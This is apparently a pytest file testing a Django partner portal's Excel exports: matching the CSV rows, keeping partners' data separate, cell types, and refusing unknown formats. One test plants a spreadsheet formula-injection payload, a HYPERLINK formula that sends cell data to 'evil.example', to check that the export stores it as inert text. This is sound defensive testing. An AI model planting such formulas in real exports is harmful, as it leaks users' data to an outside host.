"""The portal's list exports also as Excel workbooks (`?format=xlsx`): the same rows as the
CSV, only the partner's own, names that are formulas as text."""

from __future__ import annotations

from collections.abc import Callable
from decimal import Decimal

import pytest
from django.test import Client

from channeldesk.contracts.models import Customer
from tests.portal.world import PortalWorld
from tests.xlsx_exports import assert_same_rows, xlsx_of

pytestmark = pytest.mark.today("2026-12-07")

PORTAL_EXPORTS = [
    ("/portal/renewals.csv", {}),
    ("/portal/customers.csv", {}),
    ("/portal/customers.csv", {"q": "Anton", "sort": "-contracts"}),
]


@pytest.mark.usefixtures("portal_world")
@pytest.mark.parametrize("persona", ["partner_a_user", "partner_b_user"])
@pytest.mark.parametrize("language", ["de", "en"])
@pytest.mark.parametrize(("url", "query"), PORTAL_EXPORTS)
def test_the_workbook_holds_the_same_rows_as_the_csv(
    client_for: Callable[[str], Client],
    url: str,
    query: dict[str, str],
    language: str,
    persona: str,
) -> None:
    rows = assert_same_rows(client_for(persona), url, query, language=language)

    if persona == "partner_b_user" and query:
        assert len(rows) == 1  # B has no customer called Anton: the header alone
    else:
        assert len(rows) > 1


@pytest.mark.parametrize(
    ("persona", "own", "other"),
    [("partner_a_user", "K-A", "K-B"), ("partner_b_user", "K-B", "K-A")],
)
@pytest.mark.usefixtures("portal_world")
@pytest.mark.parametrize("url", ["/portal/renewals.csv", "/portal/customers.csv"])
def test_a_partners_workbook_never_holds_another_partners_rows(
    client_for: Callable[[str], Client],
    url: str,
    persona: str,
    own: str,
    other: str,
) -> None:
    sheet = xlsx_of(client_for(persona), url)

    values = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}
    assert own in values
    assert other not in values
    assert "Berta Bank eG" not in values or persona == "partner_b_user"
    assert "Anton Maschinenbau AG" not in values or persona == "partner_a_user"


def test_the_renewals_workbook_has_amounts_as_numbers_and_a_formula_name_as_text(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Details")'
    Customer.objects.filter(pk=portal_world.customer_a.pk).update(name=formula)
    client = client_for("partner_a_user")
    client.cookies["django_language"] = "de"

    sheet = xlsx_of(client, "/portal/renewals.csv")

    row = sheet[2]
    assert (row[2].value, row[2].data_type, row[2].quotePrefix) == (formula, "s", True)
    assert (Decimal(str(row[7].value)), row[7].data_type, row[7].number_format) == (
        Decimal("600.00"),
        "n",
        "0.00",
    )
    assert row[6].number_format == "DD.MM.YYYY"
    assert row[6].value.date() == portal_world.contract_soon.end_date  # type: ignore[union-attr]


def test_the_renewals_page_links_its_excel_export(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    text = client_for("partner_a_user").get("/portal/renewals/").content.decode()

    assert 'href="/portal/renewals.csv?format=xlsx"' in text


def test_an_unknown_file_format_is_refused(
    portal_world: PortalWorld, client_for: Callable[[str], Client]
) -> None:
    client = client_for("partner_a_user")

    assert client.get("/portal/renewals.csv", {"format": "ods"}).status_code == 400
    assert client.get("/portal/customers.csv", {"format": "xls"}).status_code == 400
